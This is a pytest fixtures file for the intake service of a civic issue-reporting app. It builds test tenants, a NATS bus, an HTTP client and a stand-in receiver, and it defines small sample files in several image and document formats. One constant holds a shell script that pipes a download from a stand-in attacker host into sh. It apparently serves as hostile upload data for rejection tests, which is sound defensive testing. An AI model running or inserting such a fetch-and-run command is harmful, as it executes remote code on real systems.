"""Intake's fixtures: the app in-process over its real database and a real NATS server.

``intake`` builds tenant ``gouda`` with the demo's bounding box, areas and a CORS origin, and a
second tenant ``utrecht`` (its own key, its own origin), and yields an :class:`Intake` helper.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
import yaml
from sqlmodel import func, select
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from civicsignals.common.bus import STREAM, stream_messages
from civicsignals.devstack.nats import NatsServer
from civicsignals.devstack.ports import free_port
from civicsignals.intake.app import create_app
from civicsignals.intake.settings import IntakeSettings

REPO = Path(__file__).resolve().parents[3]
DEMO_AREAS = REPO / "config" / "tenants" / "demo" / "areas.geojson"
BOX = {"min_lat": 51.95, "min_lon": 4.60, "max_lat": 52.08, "max_lon": 4.80}
GOUDA_ORIGIN = "https://meldingen.gouda.example"
UTRECHT_ORIGIN = "https://meldingen.utrecht.example"

SIGNAL = {
    "text": "Er ligt afval naast de container op de Markt. Bel mij op 06-12345678.",
    "channel": "web",
    "kind": "report",
    "location": {"lat": 52.0116, "lon": 4.7105, "address": {"street": "Markt", "number": "1"}},
    "reporter": {"name": "Jan Jansen", "email": "jan@example.org", "consent": True},
}

# The smallest files each format's signature needs (real headers, enough for sniffing).
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
    + b"\x00" * 64
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"
PDF = (
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 64
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"


class Intake:
    def __init__(
        self, app: Any, client: httpx.AsyncClient, gouda: Any, utrecht: Any, settings: IntakeSettings
    ) -> None:
        self.app = app
        self.client = client
        self.gouda = gouda
        self.utrecht = utrecht
        self.settings = settings

    @property
    def runtime(self) -> Any:
        return self.app.state.runtime

    @property
    def context(self) -> Any:
        return self.app.state.intake

    def auth(self, key: str | None = None) -> dict[str, str]:
        return {"Authorization": f"Bearer {key or self.gouda.key}"}

    async def post_signal(
        self, body: dict[str, Any] | None = None, *, key: str | None = None, **headers: str
    ) -> httpx.Response:
        return await self.client.post(
            "/v1/signals", json=body or SIGNAL, headers={**self.auth(key), **headers}
        )

    async def count(self, model: type) -> int:
        async with self.runtime.sessions() as session:
            return int((await session.exec(select(func.count()).select_from(model))).one())

    async def get(self, model: type, key: Any) -> Any:
        async with self.runtime.sessions() as session:
            return await session.get(model, key)

    async def stream(self, subject_suffix: str | None = None) -> list[Any]:
        messages = await stream_messages(self.runtime.bus.js, STREAM)
        if subject_suffix is None:
            return messages
        return [m for m in messages if m.subject.endswith(subject_suffix)]

    async def events(
        self, subject_suffix: str, wait_until: Callable[..., Any], count: int = 1
    ) -> list[dict[str, Any]]:
        async def _enough() -> list[Any] | None:
            found = await self.stream(subject_suffix)
            return found if len(found) >= count else None

        messages = await wait_until(_enough, timeout=10, message=f"{count} x {subject_suffix} on the bus")
        return [json.loads(m.data) for m in messages]


def write_tenant_files(folder: Path, origin: str) -> None:
    settings = yaml.safe_load((folder / "tenant.yaml").read_text(encoding="utf-8"))
    settings.update(
        {
            "bounding_box": BOX,
            "cors_origins": [origin],
            "retention": {"contact_days_after_close": 30},
            "timezone": "Europe/Amsterdam",
        }
    )
    (folder / "tenant.yaml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    shutil.copy(DEMO_AREAS, folder / "areas.geojson")


@pytest.fixture
def intake_settings_overrides() -> dict[str, Any]:
    """Override in a test module to change the app's settings (e.g. low rate limits)."""
    return {}


@pytest.fixture
def gouda_tenant_settings() -> dict[str, Any] | None:
    """Override in a test module to add to gouda's ``tenant.yaml`` (e.g. more ``languages``)."""
    return None


@pytest.fixture
async def intake(
    database_url: str,
    nats_server: NatsServer,
    make_tenant: Any,
    tmp_path: Path,
    intake_settings_overrides: dict[str, Any],
    gouda_tenant_settings: dict[str, Any] | None,
) -> AsyncIterator[Intake]:
    gouda = make_tenant(
        "gouda", departments=["stadsbeheer", "handhaving", "sociaal"], settings=gouda_tenant_settings
    )
    utrecht = make_tenant("utrecht")
    write_tenant_files(gouda.folder, GOUDA_ORIGIN)
    write_tenant_files(utrecht.folder, UTRECHT_ORIGIN)
    settings = IntakeSettings(
        database_url=database_url,
        nats_url=nats_server.url,
        tenants_dir=gouda.tenants_dir,
        data_dir=tmp_path / "data",
        outbox_poll_interval_s=0.1,
        **intake_settings_overrides,
    )
    app = create_app(settings)
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://intake") as client:
            await asyncio.wait_for(app.state.runtime.bus_ready.wait(), timeout=60)
            yield Intake(app, client, gouda, utrecht, settings)


class Receiver:
    """A real HTTP server standing in for routing's ``POST /v1/cases/{id}/updates``."""

    def __init__(self) -> None:
        self.received: list[tuple[str, str, dict[str, Any]]] = []
        self.status = 201
        self.port = free_port()

        async def updates(request: Request) -> JSONResponse:
            self.received.append(
                (
                    request.path_params["case_id"],
                    request.headers.get("authorization", ""),
                    await request.json(),
                )
            )
            return JSONResponse(
                {"detail": "refused by the test"} if self.status >= 400 else {"ok": True},
                status_code=self.status,
            )

        app = Starlette(routes=[Route("/v1/cases/{case_id}/updates", updates, methods=["POST"])])
        self.server = uvicorn.Server(
            uvicorn.Config(app, host="127.0.0.1", port=self.port, log_level="warning")
        )

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
async def receiver() -> AsyncIterator[Receiver]:
    server = Receiver()
    task = asyncio.create_task(server.server.serve())
    while not server.server.started:
        await asyncio.sleep(0.02)
    try:
        yield server
    finally:
        server.server.should_exit = True
        with contextlib.suppress(asyncio.CancelledError):
            await task
